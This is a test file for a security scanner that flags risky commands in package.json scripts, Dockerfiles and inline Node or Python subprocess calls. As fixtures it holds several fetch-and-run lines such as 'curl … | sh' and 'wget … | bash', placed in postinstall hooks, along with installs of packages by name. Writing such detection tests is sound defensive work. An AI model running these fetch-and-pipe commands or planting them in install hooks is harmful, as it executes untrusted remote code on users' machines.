/**
 * Scanner24's gaps in the commands outside the code (src/scan/project-commands.ts,
 * src/scan/call-command.ts): the argument lists inline code hands a program (`spawn('curl',
 * ['-fsSL', url])`, `subprocess.run(['sh', '-c', '…'])`), read as the command they run; packages
 * installed by name at install or start (`network.command-package-install`); another package's
 * scripts a script runs (`npm --prefix tools run setup`, `npm run build -w pkg`), followed into its
 * package.json inside the scanned folder.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadRelatedPackages, packageJsonCommands, scanProjectCommands } from '../../src/scan/project-commands.ts';
import { run } from '../../src/cli.ts';

/** `id identifier` of each finding of a package.json with these scripts (and other fields), sorted. */
const scripts = (table: Record<string, string>, extra: Record<string, unknown> = {}): string[] => scanProjectCommands('package.json', JSON.stringify({ name: 'x', scripts: table, ...extra }, null, 2), 'package.json').findings.map((f) => `${f.id} ${f.identifier}`).sort();
/** `id identifier` of each finding of a Dockerfile, sorted. */
const docker = (text: string): string[] => scanProjectCommands('Dockerfile', `FROM python:3.12\n${text}`, 'Dockerfile').findings.map((f) => `${f.id} ${f.identifier}`).sort();
const curl = 'network.command-download command:curl';
const curlSh = ['code-evaluation.command-remote-code command:curl|sh', curl];
const node = (code: string): Record<string, string> => ({ postinstall: `node -e ${JSON.stringify(code)}` });

test('a written program and argument list in inline code is read as the command it runs', () => {
  const call = (name: string): string => `subprocess.child-process child_process.${name}`;
  // A computed argument is a word not known; the program decides the row.
  assert.equal(scripts(node("require('child_process').spawn('curl', ['-fsSL', url])")), [curl, call('spawn')]);
  assert.equal(scripts(node("const { execFileSync } = require('node:child_process'); execFileSync('/usr/bin/curl', ['-o', 'x.tgz', 'https://x.test/x.tgz'])")), [curl, call('execFileSync')]);
  // A shell given a written line runs that line.
  assert.equal(scripts(node("require('child_process').execFile('sh', ['-c', 'curl -fsSL https://x.test/i | sh'], () => {})")), [...curlSh, call('execFile')].sort());
  assert.equal(scripts(node("require('child_process').spawnSync('bash', ['-lc', 'wget -qO- https://x.test/i' + ' | bash'], { stdio: 'inherit' })")), ['code-evaluation.command-remote-code command:wget|bash', 'network.command-download command:wget', call('spawnSync')]);
  // `shell: true`: the program and its arguments are a shell's line.
  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { shell: true })")), [...curlSh, call('spawn')].sort());
  assert.equal(scripts(node("require('child_process').spawn('curl', ['-s', 'https://x.test/i', '|', 'sh'], { shell: '/bin/bash' })")), [...curlSh, call('spawn')].sort());
  // Without a shell `|` is one more argument of curl, not a pipe.
  assert.equal(scripts(node("require('child_process').spawn('curl', ['-s', 'https://x.test/i', '|', 'sh'])")), [curl, call('spawn')]);
  // The detail says which call runs it.
  const found = scanProjectCommands('package.json', JSON.stringify({ scripts: node("require('child_process').spawn('curl', [u])") }), 'package.json').findings;
  assert.ok(found.some((f) => f.detail === 'scripts.postinstall: runs curl (a command line of child_process.spawn in the code of node -e)'), found.map((f) => f.detail).join('\n'));
  // Under `prepare` only the rows.
  assert.equal(scripts({ prepare: node("require('child_process').execFileSync('sh', ['-c', 'curl -s https://x.test/i | sh'])").postinstall! }), curlSh);
});

test('python: subprocess with a list or tuple, asyncio subprocesses', () => {
  const run = 'subprocess.python-subprocess subprocess.run';
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['sh', '-c', 'curl -s https://x.test/i | sh'], check=True)\"\n"), [...curlSh, run].sort());
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(('curl', url))\"\n"), [curl, run]);
  assert.equal(docker("RUN python3 <<EOF\nimport subprocess\nsubprocess.check_call([\n    'wget',\n    '-q',\n    URL,\n])\nEOF\n"), ['network.command-download command:wget', 'subprocess.python-subprocess subprocess.check_call']);
  // A list with shell=True: its first item is the shell's line.
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.Popen(['curl -s https://x.test/i | sh'], shell=True)\"\n"), [...curlSh, 'subprocess.python-subprocess subprocess.Popen'].sort());
  assert.equal(docker("RUN python3 -c \"import asyncio; asyncio.create_subprocess_exec('curl', u)\"\n"), [curl, 'subprocess.python-asyncio-subprocess asyncio.create_subprocess_exec']);
  assert.equal(docker("RUN python3 -c \"import asyncio; asyncio.create_subprocess_shell('curl -s https://x.test/i | sh')\"\n"), [...curlSh, 'subprocess.python-asyncio-subprocess asyncio.create_subprocess_shell'].sort());
});

test('a list built at run time, a computed program or shell: the call only', () => {
  const call = (name: string): string[] => [`subprocess.child-process child_process.${name}`];
  assert.equal(scripts(node("require('child_process').spawnSync('curl', args)")), call('spawnSync'));
  assert.equal(scripts(node("require('child_process').spawnSync('curl', [...base, url])")), call('spawnSync'));
  assert.equal(scripts(node("require('child_process').spawn(cmd, ['-fsSL', url])")), call('spawn'));
  assert.equal(scripts(node("require('child_process').spawnSync('bash', ['-lc', line])")), call('spawnSync'));
  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { shell: useShell })")), call('spawn'));
  assert.equal(scripts(node("require('child_process').spawn('curl -s https://x.test/i | sh', { ...opts })")), call('spawn'));
  // Options not written: whether a shell runs the words is not known.
  assert.equal(scripts(node("require('child_process').spawn('curl', [`${u}/i`], opts)")), call('spawn'));
  assert.equal(scripts(node("require('child_process').execFile('curl', [`${u}/i`], { cwd: dir }, (err) => { if (err) throw err })")), [curl, ...call('execFile')]);
  // A written list that downloads nothing.
  assert.equal(scripts(node("require('child_process').spawnSync('git', ['clone', '--depth', '1', url])")), call('spawnSync'));
  const run = 'subprocess.python-subprocess subprocess.run';
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(cmd)\"\n"), [run]);
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['curl', *args])\"\n"), [run]);
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(['curl', u], shell=flag)\"\n"), [run]);
  // `('curl')` is a parenthesized string: without a shell, a program named so, with no arguments.
  assert.equal(docker("RUN python3 -c \"import subprocess; subprocess.run(('curl -s https://x.test/i | sh'))\"\n"), [run]);
  // A script a written list runs on an interpreter is scanned as the scripts' files are.
  // (the code scan's own reading of the spawn, since scanner20, gives it as `./scripts/fetch.js`).
  assert.equal(scanProjectCommands('package.json', JSON.stringify({ scripts: node("require('child_process').spawnSync('node', ['scripts/fetch.js'])") }), 'package.json').scripts, ['scripts/fetch.js', './scripts/fetch.js']);
});

const install = (name: string): string => `network.command-package-install command:${name}`;
/** The details of a package.json's findings. */
const details = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').findings.map((f) => f.detail ?? '');

test('packages installed by name in install and start scripts, and in the commands inline code runs', () => {
  // @hyperdrive-eng/mcp-nodejs-debugger 0.2.2's postinstall; fetcher-mcp 0.3.9's.
  assert.equal(scripts({ postinstall: 'npm install @modelcontextprotocol/sdk node-fetch ws zod' }), [install('npm-install')]);
  assert.equal(details({ postinstall: 'npm install @modelcontextprotocol/sdk node-fetch ws zod' }), ['scripts.postinstall: npm install fetches @modelcontextprotocol/sdk, node-fetch, ws and 1 more from the npm registry']);
  assert.equal(scripts({ postinstall: 'playwright install chromium' }), [install('playwright-install')]);
  assert.equal(scripts({ postinstall: 'npx playwright install --with-deps chromium && npx playwright install-deps' }), [install('playwright-install'), install('playwright-install-deps')]);
  assert.equal(scripts({ postinstall: 'npx @puppeteer/browsers install chrome@stable' }), [install('puppeteer-browsers-install')]);
  // npm's aliases and options before its command, the other managers; under prepare too (the rows are read there).
  assert.equal(scripts({ prepare: 'npm --silent i -g pnpm@9 && pnpm add -D typescript && yarn global add serve && bun add zod' }), [install('bun-add'), install('npm-install'), install('pnpm-add'), install('yarn-add')]);
  assert.equal(scripts({ postinstall: 'python3 -m pip install --user "httpx>=0.27" && pip3 install -r requirements.txt mcp' }), [install('pip-install')]);
  assert.equal(scripts({ start: 'uv pip install -e git+https://x.test/r.git#egg=x && uv tool install ruff && pipx install black && uv add httpx' }), [install('pipx-install'), install('uv-add'), install('uv-pip-install'), install('uv-tool-install')]);
  assert.equal(details({ start: 'uv pip install -e git+https://x.test/r.git#egg=x' }), ['scripts.start: uv pip install fetches git+https://x.test/r.git#egg=x']);
  assert.equal(scripts({ postinstall: 'go install golang.org/x/tools/gopls@latest && go run github.com/x/y/cmd/z@v1.2.3 -out=a@b' }), [install('go-install'), install('go-run')]);
  assert.equal(scripts({ postinstall: 'cargo install ripgrep && cargo install --git https://x.test/r.git && gem install bundler' }), [install('cargo-install'), install('gem-install')]);
  // A package named at run time is still one fetched.
  assert.equal(details({ postinstall: 'npm install $PKG' }), ['scripts.postinstall: npm install fetches a package named at run time from the npm registry']);
  // The command lines inline code runs: a written line, a written argument list.
  assert.equal(scripts(node("require('child_process').execSync('npm install left-pad')")), [install('npm-install'), 'subprocess.child-process child_process.execSync']);
  assert.equal(scripts(node("require('child_process').spawnSync('npm', ['install', name], { stdio: 'inherit' })")), [install('npm-install'), 'subprocess.child-process child_process.spawnSync']);
  // A container's start command installs at every start; an image's build (RUN) installs the image's packages, not read.
  assert.equal(docker('CMD ["sh", "-c", "pip install mcp-server-x && python -m mcp_server_x"]\n'), [install('pip-install')]);
  assert.equal(docker("RUN pip install --no-cache-dir mcp uv && npm install -g pnpm\nRUN python3 -c \"import subprocess; subprocess.run(['pip', 'install', 'x'])\"\n"), ['subprocess.python-subprocess subprocess.run']);
});

test('installing what the project declares, a local path or a module\'s own packages is no finding', () => {
  for (const line of ['npm ci', 'npm install', 'npm install --omit=dev --no-audit', 'npm install --loglevel error --omit dev', 'pnpm install --reporter silent', 'yarn add --network-timeout 100000', 'npm --prefix sub install', 'npm i ./packages/a file:../b x.tgz', 'pnpm install --frozen-lockfile', 'yarn', 'yarn install', 'bun install', 'pip install -r requirements.txt', 'pip install -e .', 'python -m pip install .', 'uv pip install -r requirements.txt', 'go install ./...', 'go install', 'go run .', 'go run main.go', 'cargo install --path .', 'lefthook install', 'husky install', 'npm run install-deps']) {
    assert.equal(scripts({ postinstall: line, 'install-deps': 'npm ci' }), [], line);
  }
});

test('an option\'s value written as the next word is no package name', () => {
  // review25: `npm install --loglevel error` was read as installing the package `error` (and
  // `pnpm install --reporter silent` as `silent`, `pip install --exists-action w -r …` as `w`).
  for (const line of ['npm install --loglevel error', 'npm i --loglevel warn', 'npm install --fetch-timeout 600000', 'npm install --fetch-retries 5', 'npm install --audit-level high', 'npm install --cpu x64 --os linux', 'npm install --location project', 'npm install --lockfile-version 3', 'npm install --script-shell bash', 'npm install --before 2024-01-01', 'npm install --proxy http://127.0.0.1:8080', 'pnpm install --reporter silent', 'pnpm install --loglevel error', 'pnpm install --network-concurrency 4', 'pnpm install --child-concurrency 2', 'pnpm install --modules-dir vendor', 'pnpm install --node-linker hoisted', 'bun install --concurrent-scripts 4', 'bun install --network-concurrency 8', 'pip install --exists-action w -r requirements.txt', 'pip install --use-feature fast-deps -r requirements.txt', 'pip install --global-option build_ext -e .', 'pip install --index https://pypi.example/simple -r requirements.txt', 'pip install --root-user-action ignore -r requirements.txt']) {
    assert.equal(scripts({ postinstall: line }), [], line);
  }
  // The package after the option's value is still read.
  assert.equal(scripts({ postinstall: 'npm install --loglevel error left-pad' }), [install('npm-install')]);
  assert.equal(scripts({ postinstall: 'yarn add --network-timeout 100000 lodash' }), [install('yarn-add')]);
  const found = scanProjectCommands('package.json', JSON.stringify({ scripts: { postinstall: 'yarn add --network-timeout 100000 lodash' } }), 'package.json').findings;
  assert.equal(found.map((f) => f.detail), ['scripts.postinstall: yarn add fetches lodash from the npm registry']);
});

test('a downloader asked only for its version or help downloads nothing', () => {
  // review25: `curl --version` (a check that curl is there), also handed an argument list by inline code, was a download.
  for (const line of ['curl --version', 'curl -V || echo need curl', 'wget --help', 'wget --version > /dev/null']) assert.equal(scripts({ postinstall: line }), [], line);
  assert.equal(scripts(node("require('child_process').execFileSync('curl', ['--version'])")), ['subprocess.child-process child_process.execFileSync']);
  assert.equal(scripts({ postinstall: 'curl --version && curl -fsSL https://x.test/i | sh' }), curlSh);
});

test('another package\'s scripts a script runs: followed into its package.json inside the folder (by path, workspace name or folder)', async () => {
  const files = new Map<string, string>([
    ['pnpm-workspace.yaml', "packages:\n  - 'packages/*'   # members\n  - tools\n"],
    ['packages/a/package.json', JSON.stringify({ name: 'a-pkg', scripts: { x: 'curl -o a https://x.test/a', w: 'curl -o w https://x.test/w' } }, null, 2)],
    ['packages/b/package.json', JSON.stringify({ name: 'b-pkg', scripts: { y: 'npm run y2', y2: 'pip install requests', w: 'wget https://x.test/w' } }, null, 2)],
    ['tools/package.json', JSON.stringify({ name: 'tools', scripts: { t: 'node fetch.js' } }, null, 2)],
  ]);
  const asked: string[] = [];
  const read = async (path: string): Promise<string | undefined> => (asked.push(path), files.get(path));
  const list = async (dir: string): Promise<string[] | undefined> => (dir === 'packages' ? ['a', 'b'] : undefined);
  // A folder above the package, a name pattern no workspace matches, and an exclusion are not followed
  // (scanner25 follows name patterns: `yarn workspaces foreach --include "a-*"` reaches a-pkg, scanner25-commands.test.ts).
  const text = JSON.stringify({ name: 'root', scripts: { postinstall: 'npm run x -w packages/a && pnpm --filter b-pkg run y && bun --cwd tools run t && npm --prefix ../out run z && pnpm --filter "@x/*" run w && yarn workspaces foreach --exclude "b-*" run w' } }, null, 2);
  const packages = await loadRelatedPackages(text, read, list);
  const scan = scanProjectCommands('/srv/r/package.json', text, 'package.json', { packages });
  assert.equal(scan.findings.map((f) => `${f.file}:${f.line} ${f.id} ${f.identifier}`), ['/srv/r/packages/a/package.json:4 network.command-download command:curl', '/srv/r/packages/b/package.json:5 network.command-package-install command:pip-install']);
  assert.equal(scan.findings[1]!.detail, 'scripts.postinstall → packages/b/package.json scripts.y → packages/b/package.json scripts.y2: pip install fetches requests from PyPI');
  assert.equal(scan.findings[1]!.evidence, '"y2": "pip install requests",');
  // The script another package's script runs is in that package's folder (`bun run t` may be a file too: `tools/t`, tried and not found).
  assert.equal(scan.scripts, ['tools/t', 'tools/fetch.js']);
  assert.not.ok(asked.some((p) => p.includes('..')), asked.join(', '));
  // Without the lookup (or with none found) nothing is followed, as before.
  assert.equal(scanProjectCommands('/srv/r/package.json', text, 'package.json').findings, []);
  // Every workspace: each one's script of that name (tools has none), once however many ways name it.
  for (const line of ['npm run w --workspaces', 'npm run w -ws --if-present', 'pnpm -r run w', 'pnpm --recursive w', 'yarn workspaces foreach -A --parallel -j 4 run w', 'yarn workspaces run w']) {
    const all = JSON.stringify({ name: 'root', scripts: { start: `${line} && ${line}` } }, null, 2);
    const found = scanProjectCommands('/srv/r/package.json', all, 'package.json', { packages: await loadRelatedPackages(all, read, list) }).findings;
    assert.equal(found.map((f) => `${f.file}:${f.line} ${f.identifier}`), ['/srv/r/packages/a/package.json:5 command:curl', '/srv/r/packages/b/package.json:6 command:wget'], line);
  }
});

test('scripts that run each other across workspaces are each read once per depth, not once per path', async () => {
  // 10 workspaces whose script `a` runs `a` in every workspace: every path was read before (10^5
  // and more commands, a scan that took seconds and grew with each workspace); the download in
  // the last one is still found.
  const files = new Map<string, string>();
  const dirs: string[] = [];
  for (let k = 0; k < 10; k++) {
    dirs.push(`p${k}`);
    const scripts: Record<string, string> = { a: k === 9 ? 'npm run a -ws && curl -o x https://x.test/x' : 'npm run a -ws' };
    files.set(`packages/p${k}/package.json`, JSON.stringify({ name: `p${k}`, scripts }, null, 2));
  }
  const text = JSON.stringify({ name: 'root', workspaces: ['packages/*'], scripts: { postinstall: 'npm run a -ws' } }, null, 2);
  const packages = await loadRelatedPackages(text, async (path) => files.get(path), async (dir) => (dir === 'packages' ? dirs : undefined));
  const commands = packageJsonCommands(text, packages);
  // The postinstall and each workspace's `a`, each read again only when reached nearer the root: at most once per depth (6).
  assert.ok(commands.length <= 11 * 6, `${commands.length} commands read`);
  assert.equal(new Set(commands.map((c) => `${c.package?.dir ?? ''} ${c.command}`)).size, 11);
  const found = scanProjectCommands('/srv/r/package.json', text, 'package.json', { packages }).findings;
  assert.equal(found.map((f) => `${f.file}:${f.line} ${f.identifier}`), ['/srv/r/packages/p9/package.json:4 command:curl']);
});

test('mcpfusion scan of a monorepo: the scripts its postinstall and prepare run in other packages are findings there', async () => {
  const M = 'test/fixtures/scan/project-commands/monorepo';
  const out: string[] = [];
  const code = await run(['scan', M, '--format', 'json'], { stdout: (s: string) => void out.push(s), stderr: () => {}, cwd: process.cwd(), env: {} } as never);
  const json = JSON.parse(out.join('')) as { files: string[]; findings: Array<{ id: string; identifier: string; file: string; line: number; detail?: string }> };
  const at = json.findings.map((f) => `${f.file.slice(M.length + 1)}:${f.line} ${f.id} ${f.identifier}`);
  assert.equal(at.filter((s) => s.includes('package.json')).sort(), [
    'packages/client/package.json:5 network.command-download command:wget',
    'packages/server/package.json:7 network.command-package-install command:npm-install',
    // `npm run everything --workspaces` in start: the server's script of that name (the client has none).
    'packages/server/package.json:8 network.command-download command:wget',
    'tools/package.json:5 code-evaluation.command-remote-code command:curl|sh',
    'tools/package.json:5 network.command-download command:curl',
  ]);
  // packages/server/test is a folder a walk leaves out, but the build script the postinstall runs runs gen.js.
  assert.ok(json.files.includes(`${M}/packages/server/test/gen.js`), json.files.join('\n'));
  assert.ok(at.includes('packages/server/test/gen.js:2 subprocess.child-process child_process.execSync'), at.join('\n'));
  assert.ok(json.findings.some((f) => f.detail === 'scripts.prepare → packages/client/package.json scripts.fetch: runs wget'), JSON.stringify(json.findings.map((f) => f.detail)));
  assert.is(code, 1);
});

test.run();
